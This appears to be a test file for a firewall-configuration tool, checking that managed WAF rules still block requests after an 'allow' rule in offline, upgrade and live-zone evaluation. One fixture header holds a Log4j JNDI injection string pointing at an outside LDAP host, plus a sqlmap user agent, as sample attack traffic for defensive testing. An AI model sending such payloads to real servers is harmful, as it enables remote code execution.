/**
 * Issue 32 item 2: `allow` ends the firewall rules (and the custom rules, one list on the service),
 * not the managed rules or the previous WAF, in every evaluator: offline `zonewall test`, the
 * upgrade's proof (an allowed request a managed rule blocks before and after is no difference), and
 * the cutover's compare on a live zone. (The engine's trace: test/engine/trace/trace-api.test.ts.)
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { applyZone } from '../../src/apply/index.js';
import { compareLive } from '../../src/cli/commands/migrate-cutover-compare.js';
import type { DesiredZone } from '../../src/manifest/index.js';
import { upgradeFirewallManifest } from '../../src/migrate/index.js';
import { diffZone, readsFor } from '../../src/plan/index.js';
import { buildZoneModel, evaluateOffline, proveEquivalence, runOffline } from '../../src/policy/index.js';
import { openProvider, type Provider } from '../../src/providers/index.js';
import { casesOf, desiredOf } from '../policy/fixtures.js';

const firewall = `zone: allow.example
plan: enterprise
managed_rules:
  - ruleset: managed
firewall_rules:
  office:
    action: allow
    filter: { expression: 'ip.src in {192.0.2.0/24}' }
  scanners:
    action: block
    filter: { expression: 'http.user_agent contains "sqlmap"' }
`;

/** An office request carrying a Log4j header: the allow matches, then the managed ruleset blocks it. */
const office = { host: 'allow.example', path: '/', ip: '192.0.2.10', headers: { 'User-Agent': 'sqlmap/1.7', 'X-Api-Version': '${jndi:ldap://203.0.113.1/a}' } };

const cases = casesOf(`- name: an office request the managed rules block after the allow
  request: { ip: 192.0.2.10, headers: { User-Agent: sqlmap/1.7, X-Api-Version: "\${jndi:ldap://203.0.113.1/a}" } }
  expect: { action: block, matched: [firewall_rules.office, managed_rules.managed] }
- name: an office browser is allowed
  request: { ip: 192.0.2.10, headers: { User-Agent: Mozilla/5.0 } }
  expect: { allowed: true, matched: firewall_rules.office }
`).cases;

describe('allow as the service scopes it (issue 32 item 2)', () => {
  it('offline: the managed rules still run after an allow', () => {
    const model = buildZoneModel(desiredOf(firewall));
    const v = evaluateOffline(model, office);
    expect([v.action, v.decided_by]).toEqual(['block', 'managed_rules']);
    expect(v.matched.map((m) => m.name)[0]).toBe('firewall_rules.office');
    expect(runOffline(model, cases).filter((r) => !r.pass).map((r) => [r.name, r.failures])).toEqual([]);
  });

  it('the proof: allow -> skip ruleset current is no difference, for the request a managed rule blocks before and after', () => {
    const before = desiredOf(firewall);
    const up = upgradeFirewallManifest('zone.yaml', firewall, before);
    const after = up.after!;
    expect(after.customRules!.find((r) => r.ref === 'office')).toMatchObject({ action: 'skip', actionParameters: { ruleset: 'current' } });
    const proof = proveEquivalence({ before, after, renames: up.renames, cases });
    expect(proof.differences).toEqual([]);
    expect(evaluateOffline(buildZoneModel(after), office).action).toBe('block');
  });
});

describe('the cutover compare on a live zone', () => {
  let dir: string;
  let provider: Provider;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'zw-allow-scope-'));
    provider = await openProvider({ stateDir: dir });
  });
  afterAll(async () => {
    await provider.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('finds no difference for the office request the managed rules block in both generations', async () => {
    const staged = `${firewall}custom_rules:
  office:
    action: skip
    action_parameters: { ruleset: current }
    expression: ip.src in {192.0.2.0/24}
    enabled: false
  scanners:
    action: block
    expression: http.user_agent contains "sqlmap"
    enabled: false
`;
    const desired: DesiredZone = desiredOf(staged);
    const { zone } = await provider.resolveZone(desired.zone, { create: { plan: 'enterprise' } });
    const applied = await applyZone(diffZone(desired, await provider.readZone(zone.id, readsFor(desired))), provider, { force: true });
    expect(applied.ok).toBe(true);
    const live = await provider.readZone(zone.id, readsFor(desired));
    const enabled: DesiredZone = { ...desired, customRules: desired.customRules!.map((r) => ({ ...r, enabled: true })) };
    const compared = compareLive(live, enabled, [office]);
    expect(compared.differences).toEqual([]);
  });
});
